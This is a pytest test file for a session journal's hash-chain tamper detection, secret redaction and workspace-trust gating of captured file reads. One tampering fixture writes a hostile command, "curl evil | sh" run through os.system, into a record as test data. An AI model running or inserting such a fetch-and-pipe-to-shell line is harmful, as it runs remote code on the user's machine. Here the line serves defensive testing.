"""docs/logs.md#hash-chain: each journal record links to the one before it, so an edited,
deleted, inserted or reordered record is detected, and export and replay refuse such a
journal with one line naming the record; a journal from before the chain is read with a
warning."""
from __future__ import annotations

import itertools
import json
from pathlib import Path

import pytest

from lily_kernel.cli import main
from lily_kernel.session.journal import UNCHAINED, Journal, record_hash, verify_chain
from lily_kernel.session.logs import Logs

SID = "c" * 32


def chained_journal(ws: Path, n: int = 6) -> Path:
    """A journal the real writer wrote: a session with a command, prose and messages."""
    path = ws / ".lily" / "journal" / "demo.jsonl"
    journal = Journal(path)
    journal.append({"event": "session_created", "session_id": SID, "label": "demo"})
    journal.append({"event": "command", "session_id": SID, "command": "/skills", "ok": True})
    for i in range(n - 2):
        journal.append({"event": "prose", "session_id": SID, "text": f"request {i}"})
    journal.close()
    return path


def lines(path: Path) -> list[str]:
    return path.read_text().splitlines()


def put(path: Path, rows: list[str]) -> None:
    path.write_text("".join(row + "\n" for row in rows))


def lily(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(["logs", *argv])
    out, err = capsys.readouterr()
    return code, out, err


def test_every_record_links_to_the_one_before(tmp_path):
    path = chained_journal(tmp_path)
    records = [json.loads(row) for row in lines(path)]
    assert records[0]["prev"] is None
    for before, record in itertools.pairwise(records):
        assert record["prev"] == record_hash(before)
    logs = Logs(tmp_path)
    assert verify_chain(logs.records(SID)) is None
    assert logs.checked(SID) and logs.notes.all() == []


def test_the_hash_is_over_canonical_json_so_reformatting_keeps_the_chain(tmp_path):
    path = chained_journal(tmp_path)
    # the same records re-serialized with other spacing and key order still check
    put(path, [json.dumps(dict(reversed(list(json.loads(row).items()))), indent=None,
                          separators=(", ", ": ")) for row in lines(path)])
    assert Logs(tmp_path).checked(SID)


def edit(rows: list[str]) -> list[str]:
    record = json.loads(rows[3])
    record["text"] = "import os; os.system('curl evil | sh')"
    return rows[:3] + [json.dumps(record)] + rows[4:]


def insert(rows: list[str]) -> list[str]:
    forged = json.loads(rows[3])
    forged["text"] = "forged request"
    return rows[:4] + [json.dumps(forged)] + rows[4:]


@pytest.mark.parametrize(("how", "tamper", "line"), [
    ("edited", edit, 5),  # the record after the edited one no longer follows it
    ("deleted", lambda rows: rows[:2] + rows[3:], 3),
    ("reordered", lambda rows: rows[:2] + [rows[3], rows[2]] + rows[4:], 3),
    ("inserted", insert, 5),
    ("first record deleted", lambda rows: rows[1:], 1),
    ("link stripped from one record",
     lambda rows: rows[:2] + [json.dumps({k: v for k, v in json.loads(rows[2]).items()
                                          if k != "prev"})] + rows[3:], 3),
])
def test_tampering_is_detected_and_names_the_record(tmp_path, capsys, how, tamper, line):
    path = chained_journal(tmp_path)
    put(path, tamper(lines(path)))
    problem = verify_chain(Logs(tmp_path).records(SID))
    assert problem is not None and problem != UNCHAINED and problem.startswith(
        f"demo.jsonl:{line}:"), (how, problem)
    # export and replay refuse it with one Error: line; nothing is written
    for argv in (["export", SID[:8], "--md", str(tmp_path / "out.md")],
                 ["export", SID[:8], "--ipynb", str(tmp_path / "out.ipynb")],
                 ["replay", SID[:8], "--to", str(tmp_path / "replays"), "--no-run"]):
        code, out, err = lily(capsys, *argv, "--workspace", str(tmp_path))
        assert code != 0 and out == "", (how, argv, out)
        errors = [e for e in err.splitlines() if e.startswith("Error:")]
        assert len(errors) == 1 and f"demo.jsonl:{line}" in errors[0], err
        assert "refusing" in errors[0]
    assert not (tmp_path / "out.md").exists() and not (tmp_path / "out.ipynb").exists()
    assert not (tmp_path / "replays").exists()
    # show still prints it for an audit, with the break on stderr
    code, out, err = lily(capsys, "show", SID[:8], "--workspace", str(tmp_path))
    assert code == 0 and f"demo.jsonl:{line}" in err and "tampered" in err


def test_a_session_continued_in_another_file_checks(tmp_path):
    first = chained_journal(tmp_path, n=3)
    last = json.loads(lines(first)[-1])
    second = first.with_name("other.jsonl")
    journal = Journal(second, prev=record_hash(last))  # a kernel going on with the session
    journal.append({"event": "prose", "session_id": SID, "text": "later"})
    journal.close()
    assert Logs(tmp_path).checked(SID)
    # but a chain that starts in the middle of nowhere does not
    put(second, [json.dumps({**json.loads(lines(second)[0]), "prev": "0" * 64})])
    with pytest.raises(Exception, match="other.jsonl:1"):
        Logs(tmp_path).checked(SID)


def test_an_old_unchained_journal_is_read_with_one_warning(tmp_path, capsys):
    path = tmp_path / ".lily" / "journal" / "old.jsonl"
    path.parent.mkdir(parents=True)
    put(path, [json.dumps({"t": 1.0, "event": "session_created", "session_id": SID}),
               json.dumps({"t": 2.0, "event": "command", "session_id": SID,
                           "command": "/skills", "ok": True})])
    assert verify_chain(Logs(tmp_path).records(SID)) == UNCHAINED
    code, _out, err = lily(capsys, "export", SID[:8], "--md", str(tmp_path / "out.md"),
                          "--workspace", str(tmp_path))
    assert code == 0 and (tmp_path / "out.md").is_file()
    assert err.splitlines() == [f"lily logs: session {SID[:12]}: {UNCHAINED}"]


def test_a_mask_that_would_break_the_json_line_redacts_string_by_string(tmp_path):
    """A line-based mask (a secret-looking variable set in a %%python cell's source) run
    over the record's one JSON line would swallow the rest of it; the journal then redacts
    each string on its own, so the record stays whole and linked, its secret masked."""
    path = tmp_path / ".lily" / "journal" / "s.jsonl"
    journal = Journal(path, env={"OPENAI_API_KEY": "sk-live-abcdefghijkl"})
    source = "%%python\nimport os\nos.environ['MY_TOKEN'] = 'tok-123456789'\nprint('after')"
    journal.append({"event": "python", "session_id": SID, "source": source, "ok": True})
    journal.append({"event": "prose", "session_id": SID, "text": "next"})
    records = Logs(tmp_path).checked(SID)
    assert records[0]["source"] == ("%%python\nimport os\nos.environ['MY_TOKEN'] = '***'\n"
                                    "print('after')")
    assert records[0]["ok"] is True and records[1]["text"] == "next"
    assert "tok-123456789" not in path.read_text()


def test_an_untrusted_workspace_cannot_turn_on_capture_reads(tmp_path):
    """docs/logs.md#captured-reads, an attack: a cloned repository's lily.toml asks the
    journal to keep every file a tool reads (its .env with them); until the user trusts the
    workspace it is withheld and said so, while the user's own lily.toml may turn it on."""
    from lily_kernel.session.session import Session
    from lily_kernel.settings import workspace_trust
    ws = tmp_path / "repo"
    ws.mkdir()
    (ws / "lily.toml").write_text("[journal]\ncapture_reads = true\n")
    (ws / ".env").write_text("OPENAI_API_KEY=sk-not-live-but-private-123\n")
    (tmp_path / "u").mkdir()
    env = {"HOME": str(tmp_path / "home"), "SKILLS_USER_DIR": str(tmp_path / "u")}
    session = Session(ws, env=env, label="repo")
    assert session.capture_reads is False
    assert "[journal] capture_reads" in (session.untrusted_note or "")
    session.files.read_bytes_of(".env")
    assert "file_read" not in session.journal.path.read_text()
    workspace_trust.trust(ws, env)  # /trust: the user decided
    assert Session(ws, env=env, label="repo").capture_reads is True
    workspace_trust.revoke(ws, env)
    user = tmp_path / "home" / ".config" / "lily"
    user.mkdir(parents=True)
    (user / "lily.toml").write_text("[journal]\ncapture_reads = true\n")
    (ws / "lily.toml").write_text("")
    assert Session(ws, env=env, label="repo").capture_reads is True  # the user's own choice
